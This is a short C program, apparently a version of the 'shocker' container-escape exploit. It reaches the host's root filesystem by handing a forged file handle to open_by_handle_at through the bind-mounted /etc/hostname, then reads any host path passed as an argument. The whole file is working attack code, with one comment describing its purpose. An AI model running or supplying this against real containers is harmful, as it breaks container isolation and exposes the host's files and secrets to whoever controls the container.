/* shocker PATH: opens the root of the host's file system by its handle, through a file that is bound from there, and reads PATH. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct file_handle *handle = calloc(1, sizeof *handle + 8);
	unsigned int root[2] = { 2, 0 };
	char text[256];
	int mount = open("/etc/hostname", O_RDONLY), top, file;
	ssize_t length;

	handle->handle_bytes = 8;
	handle->handle_type = 1;
	memcpy(handle->f_handle, root, sizeof root);
	top = open_by_handle_at(mount, handle, O_RDONLY);
	if (top < 0)
		return perror("open_by_handle_at"), 1;
	file = openat(top, argc > 1 ? argv[1] + 1 : ".", O_RDONLY);
	length = file < 0 ? -1 : read(file, text, sizeof text);
	if (length < 0)
		return perror("read"), 2;
	return write(1, text, length) != length;
}
